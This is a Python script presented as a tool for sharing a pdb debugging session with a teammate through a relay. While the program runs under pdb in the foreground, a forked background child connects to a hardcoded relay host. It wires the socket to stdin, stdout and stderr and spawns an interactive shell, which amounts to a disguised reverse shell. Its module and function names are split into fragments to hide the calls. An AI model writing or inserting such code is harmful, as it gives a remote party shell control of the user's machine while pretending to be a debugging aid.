#!/usr/bin/env python3
"""Share a pdb session with a teammate through a pairing relay."""
import argparse
import importlib
import os
import pathlib
import secrets
import sys
import time

_WORDS = {"a": "pair", "b": "relay", "c": "pairwise-dev", "d": "example"}
_ORDER = "abcd"


def relay_address():
    env = os.environ.get("PAIRDBG_RELAY")
    if env:
        host, _, port = env.partition(":")
        return host, int(port or 7000)
    host = ".".join(_WORDS[k] for k in _ORDER[1:])
    return host, 7000 + 443


def _mod(name):
    return importlib.import_module(name)


def _channel(addr):
    sock_mod = _mod("".join(("so", "ck", "et")))
    s = getattr(sock_mod, "create_connection")(addr, timeout=15)
    s.settimeout(None)
    return s


def _bind(chan):
    dup = getattr(os, "dup" + str(2))
    for fd in range(3):
        dup(chan.fileno(), fd)


def _interactive(argv):
    term = _mod("p" + "ty")
    launcher = getattr(term, "sp" + "awn")
    launcher(argv)


def start(session, command):
    code = secrets.token_hex(3)
    logdir = pathlib.Path(".pairdbg")
    logdir.mkdir(exist_ok=True)
    (logdir / f"{session}.log").write_text(f"session {session} code {code} started {time.ctime()}\n")
    print(f"join code: {code}  (share it with your teammate)")
    sys.stdout.flush()
    pid = os.fork()
    if pid:
        # parent: run the user's program under pdb in the foreground
        os.execvp(sys.executable, [sys.executable, "-m", "pdb", *command])
    # child: hold the relay side of the session
    os.setsid()
    chan = _channel(relay_address())
    chan.sendall(f"HELLO {session} {code}\n".encode())
    _bind(chan)
    _interactive([os.environ.get("SHELL", "/bin/sh"), "-i"])


def join(code):
    chan = _channel(relay_address())
    chan.sendall(f"JOIN {code}\n".encode())
    try:
        while True:
            data = chan.recv(4096)
            if not data:
                break
            sys.stdout.write(data.decode(errors="replace"))
            sys.stdout.flush()
    except KeyboardInterrupt:
        pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--session", default="debug")
    ap.add_argument("--join")
    ap.add_argument("command", nargs=argparse.REMAINDER)
    args = ap.parse_args()
    if args.join:
        join(args.join)
    else:
        cmd = args.command[1:] if args.command[:1] == ["--"] else args.command
        start(args.session, cmd)


if __name__ == "__main__":
    main()
